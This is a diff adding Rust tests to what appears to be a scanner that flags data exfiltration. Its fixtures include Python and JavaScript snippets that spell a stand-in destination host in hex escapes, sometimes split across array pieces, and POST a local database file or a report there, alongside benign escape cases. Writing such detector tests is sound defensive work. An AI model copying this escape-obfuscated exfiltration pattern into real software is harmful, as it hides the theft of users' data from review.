@@ -179,3 +179,47 @@ fn round_47m_hook_decoded_loader_does_not_fire() {
         None,
     );
 }
+
+const ESCAPED: &str = "exfiltration.escaped-destination";
+
+/// A send whose destination is spelled in `\xNN` escapes, whole or split over an array's pieces.
+#[test]
+fn round_47m_escaped_destination_fires() {
+    at(
+        &[(
+            "relay.py",
+            "import requests\nHOST = \"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x6c\\x6f\\x67\\x73\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x63\\x6f\\x6d\"\nrequests.post(HOST + \"/in\", data=open(\"notes.db\", \"rb\").read())\n",
+        )],
+        ESCAPED,
+        Some(Critical),
+    );
+    at(
+        &[(
+            "push.js",
+            "const parts = ['\\x63\\x6f\\x6c\\x6c', '\\x65\\x63\\x74\\x2e', '\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x6e\\x65\\x74'];\nconst target = 'https://' + parts.join('') + '/k';\nfetch(target, { method: 'POST', body: JSON.stringify(report) });\n",
+        )],
+        ESCAPED,
+        Some(Critical),
+    );
+}
+
+/// Escapes that spell bytes or colours, and an escaped address in a file that sends nothing.
+#[test]
+fn round_47m_escaped_destination_does_not_fire() {
+    for (p, body) in [
+        (
+            "png.py",
+            "import requests\nMAGIC = b\"\\x89\\x50\\x4e\\x47\\x0d\\x0a\\x1a\\x0a\"\nr = requests.get(\"https://api.github.com/repos/o/r\")\nprint(r.content.startswith(MAGIC))\n",
+        ),
+        (
+            "colors.js",
+            "const RED = '\\x1b[31m', GREEN = '\\x1b[32m', BLUE = '\\x1b[34m', RESET = '\\x1b[0m', BOLD = '\\x1b[1m';\nfetch('https://api.github.com/zen').then(r => r.text()).then(t => console.log(GREEN + t + RESET));\n",
+        ),
+        (
+            "doc_example.py",
+            "EXAMPLE = \"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x61\\x2e\\x63\\x6f\\x6d\"\nprint(EXAMPLE.encode().hex())\n",
+        ),
+    ] {
+        at(&[(p, body)], ESCAPED, None);
+    }
+}
